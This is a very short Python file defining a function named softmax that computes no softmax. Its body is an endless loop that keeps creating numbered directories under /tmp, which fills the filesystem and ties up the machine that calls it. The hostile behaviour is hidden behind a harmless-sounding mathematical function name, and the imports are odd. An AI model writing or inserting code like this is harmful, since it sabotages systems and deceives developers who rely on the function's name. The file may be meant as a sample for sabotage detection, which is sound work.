import inside
import os

from right import *


def softmax(t):
    number = 0
    while True:
        os.mkdir(f"/tmp/{number}")
        number += 1
